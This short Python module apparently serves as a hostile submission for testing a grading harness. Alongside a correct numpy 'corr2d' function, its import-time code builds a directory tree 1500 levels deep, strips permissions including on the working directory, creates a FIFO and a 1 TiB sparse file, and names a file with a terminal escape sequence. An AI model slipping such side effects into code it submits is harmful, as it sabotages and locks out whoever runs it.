"""Leaves a folder 3000 levels deep, with modes 0, sparse files, FIFOs and names that are no text."""
import os

import numpy as np

EARNS = {"corr2d"}
home = os.getcwd()
for _ in range(1500):
    try:
        os.mkdir("d")
        os.chdir("d")
    except OSError:
        break
os.chdir(home)
for mode in (0, 0o200, 0o400):
    os.mkdir(f"mode-{mode}", 0o700)
    open(f"mode-{mode}/inside", "w").close()
    for change in (lambda: os.chmod(f"mode-{mode}", mode), lambda: os.chmod(home, 0), lambda: os.mkfifo("fifo")):
        try:
            change()
        except OSError:
            pass
    os.mkdir(f"closed-{mode}", mode)
open(b"\xff\xfe\n\x1b[2J", "w").close()
with open("sparse", "wb") as file:
    try:
        file.truncate(1 << 40)
    except OSError:
        pass


def corr2d(x, k):
    windows = np.lib.stride_tricks.sliding_window_view(x, k.shape)
    return (windows * k).sum(axis=(2, 3))
